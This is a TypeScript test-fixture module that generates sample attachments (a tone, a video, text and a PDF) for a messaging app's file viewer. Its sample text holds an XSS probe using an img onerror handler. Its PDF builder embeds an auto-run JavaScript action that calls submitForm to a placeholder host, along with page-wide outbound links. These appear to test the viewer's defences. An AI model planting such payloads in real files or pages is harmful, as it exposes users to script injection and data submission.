/** Files that a test lets come in, by their names: what stands in the message, and what is in them. */
import type { FileBytes } from "../backend";
import type { FileLook, FileTextView, FileView } from "../types";
import { pause } from "./FakeAccount";

const LOOKS: [RegExp, FileLook][] = [
  [/^voice/, "voice"],
  [/\.(png|svg)$/, "picture"],
  [/\.(mp4|webm)$/, "video"],
  [/\.(wav|mp3)$/, "sound"],
  [/\.(txt|csv)$/, "text"],
  [/\.pdf$/, "pdf"],
];

export const lookOf = (name: string): FileLook => LOOKS.find(([fits]) => fits.test(name))?.[1] ?? "other";

/** What a message says of a recording besides. */
export const lengthOf = (name: string): Partial<FileView> => (/^voice|\.(wav|mp3|webm|mp4)$/.test(name) ? { length_ms: 12_400 } : {});

const named = (handle: string) => handle.replace(/^file-/, "");

const TEXT = `Minutes of the meeting of 20 November

1. The reserve is released by joint decision of both ministries.
2. Les crédits sont répartis entre les régions ; la clé figure à l’annexe B.
3. Наступне засідання: четвер, 26 листопада.

<img src=x onerror="document.title = 'ran'"> stays what it is: words.
`;

export async function sampleText(handle: string): Promise<FileTextView | null> {
  await pause();
  if (named(handle).startsWith("broken")) return null;
  const long = named(handle).startsWith("long");
  return { text: long ? "2026-11-20 08:00:00 All quiet in the regions.\n".repeat(5600) : TEXT, whole: !long };
}

export async function sampleBytes(handle: string): Promise<FileBytes> {
  await pause();
  const name = named(handle);
  if (name.startsWith("huge")) return { blob: null, why: "too-large" };
  if (name.startsWith("other")) return { blob: null, why: "other-kind" };
  switch (lookOf(name)) {
    case "pdf":
      return { blob: new Blob([name.startsWith("broken") ? "%PDF-1.7 and nothing else" : pdf(name.startsWith("long") ? 320 : 3)], { type: "application/pdf" }) };
    case "video":
      return { blob: name.startsWith("broken") ? new Blob([new Uint8Array(2048)], { type: "video/mp4" }) : await film() };
    default:
      return { blob: tone() };
  }
}

/** Three seconds of a quiet tone, as WAV. */
export function tone(): Blob {
  const rate = 8000;
  const samples = Uint8Array.from({ length: 3 * rate }, (_, index) => 128 + Math.round(20 * Math.sin((2 * Math.PI * 440 * index) / rate)));
  const head = new DataView(new ArrayBuffer(44));
  const put = (at: number, letters: string) => [...letters].forEach((letter, index) => head.setUint8(at + index, letter.charCodeAt(0)));
  put(0, "RIFF");
  head.setUint32(4, 36 + samples.length, true);
  put(8, "WAVEfmt ");
  head.setUint32(16, 16, true);
  head.setUint16(20, 1, true);
  head.setUint16(22, 1, true);
  head.setUint32(24, rate, true);
  head.setUint32(28, rate, true);
  head.setUint16(32, 1, true);
  head.setUint16(34, 8, true);
  put(36, "data");
  head.setUint32(40, samples.length, true);
  return new Blob([head.buffer, samples], { type: "audio/wav" });
}

/** A moment of a canvas, as the browser itself records it. */
async function film(): Promise<Blob> {
  const canvas = document.createElement("canvas");
  [canvas.width, canvas.height] = [320, 180];
  const context = canvas.getContext("2d");
  const recorder = new MediaRecorder(canvas.captureStream(20), { mimeType: "video/webm" });
  const parts: Blob[] = [];
  recorder.ondataavailable = ({ data }) => parts.push(data);
  const stopped = new Promise((done) => {
    recorder.onstop = done;
  });
  recorder.start();
  for (let step = 0; step < 12; step += 1) {
    if (context) {
      context.fillStyle = `hsl(${step * 30} 40% 40%)`;
      context.fillRect(0, 0, 320, 180);
    }
    await pause(50);
  }
  recorder.stop();
  await stopped;
  return new Blob(parts, { type: "video/webm" });
}

/** A document with a script that runs when it is opened, a link over each page that leads away, and a black square as a fax draws it. */
function pdf(pages: number): string {
  const objects: string[] = [];
  const kids = Array.from({ length: pages }, (_, index) => `${6 + 3 * index} 0 R`).join(" ");
  objects.push("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>");
  objects.push(`<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`);
  objects.push("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
  objects.push("<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://elsewhere.invalid/'\\);) >>");
  const fax = "/Filter [/ASCIIHexDecode /CCITTFaxDecode] /DecodeParms [null << /K -1 /Columns 8 /Rows 8 >>]";
  objects.push(`<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1 /Decode [1 0] ${fax} /Length 9 >>\nstream\nFF001001>\nendstream`);
  for (let page = 1; page <= pages; page += 1) {
    const first = 3 * page + 3;
    const drawn = `BT /F1 26 Tf 60 760 Td (Regional reserve, page ${page}) Tj 0 -40 Td /F1 13 Tf (Released by joint decision of both ministries.) Tj ET\n0.8 0.9 0.92 rg 60 420 480 240 re f q 120 0 0 120 60 250 cm /I Do Q`;
    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> /XObject << /I 5 0 R >> >> /Contents ${first + 1} 0 R /Annots [${first + 2} 0 R] >>`);
    objects.push(`<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`);
    objects.push("<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << /S /URI /URI (https://elsewhere.invalid/) >> >>");
  }
  let text = "%PDF-1.7\n";
  const places = objects.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, "0")} 00000 n \n`;
  });
  const end = text.length;
  return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join("")}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${end}\n%%EOF\n`;
}
